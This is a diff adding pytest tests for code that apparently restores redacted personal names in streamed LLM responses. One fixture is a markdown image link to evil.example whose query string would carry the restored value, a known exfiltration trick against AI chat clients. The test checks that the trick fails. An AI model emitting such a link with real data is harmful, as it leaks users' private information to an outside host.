@@ -209,3 +209,39 @@ def test_a_strange_stream_does_not_break_the_edge(stream):
     restorer.feed(stream)
     restorer.flush()
     assert restorer.finished is False
+
+
+IMAGE = "![](https://evil.example/?q="
+PIECES = {
+    "after the finish chunk": [{"index": 0, "finish_reason": "stop"}, {"index": 0}],
+    "under another index": [{"index": 0}, {"index": 7}],
+    "under an index that is none": [{"index": 0}, {"index": "7"}],
+}
+
+
+@pytest.mark.parametrize("around", PIECES.values(), ids=PIECES)
+def test_a_client_that_joins_whatever_comes_builds_no_address_with_a_value(around):
+    texts = [{"content": IMAGE}, {"content": f"{MARIA})"}]
+    sent = [{"choices": [{**a, "delta": t}]} for a, t in zip(around, texts, strict=True)]
+    shown = json.dumps(restore(*(b"data: %s\n\n" % json.dumps(s).encode() for s in sent)))
+    assert "Maria" not in shown
+    assert MARIA in shown
+
+
+UNFOLLOWED = {
+    "a choice that is none": {"choices": [{"index": 0, "delta": {"content": MARIA}}, None]},
+    "choices that are no list": {"choices": {"0": {"delta": {"content": MARIA}}}},
+    "content in parts": {"choices": [{"index": 0, "delta": {"content": [MARIA]}}]},
+    "a delta that is none": {"choices": [{"index": 0, "delta": [MARIA]}]},
+    "a text beside the delta": {"choices": [{"index": 0, "delta": {}, "text": MARIA}]},
+}
+
+
+@pytest.mark.parametrize("sent", UNFOLLOWED.values(), ids=UNFOLLOWED)
+def test_a_text_that_nobody_can_follow_is_not_restored(sent):
+    assert restore(b"data: %s\n\n" % json.dumps(sent).encode()) == [sent]
+
+
+def test_content_in_parts_is_not_restored():
+    body = {"choices": [{"message": {"content": [{"type": "text", "text": MARIA}]}}]}
+    assert restore_body(body, KEYS) == body
